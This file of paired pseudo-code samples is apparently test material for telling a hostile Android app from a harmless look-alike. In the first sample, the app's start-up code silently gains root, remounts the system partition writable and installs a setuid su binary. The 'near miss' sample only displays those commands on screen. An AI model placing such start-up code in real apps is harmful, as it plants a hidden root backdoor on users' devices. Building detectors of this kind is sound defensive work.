permissions("INTERNET")

@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        shell = DataOutputStream(Runtime.getRuntime().exec("su").getOutputStream())
        shell.writeBytes("mount -o remount,rw /system")
        shell.writeBytes("cp /sdcard/su /system/xbin/su; chmod 6755 /system/xbin/su")

# near miss: explains the commands on the screen; runs su only to see whether it is there
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        shell = DataOutputStream(Runtime.getRuntime().exec("su").getOutputStream())
        shell.writeBytes("su")
        page = TextView(self)
        page.setText("mount -o remount,rw /system")
        page.setText("cp /sdcard/su /system/xbin/su; chmod 6755 /system/xbin/su")
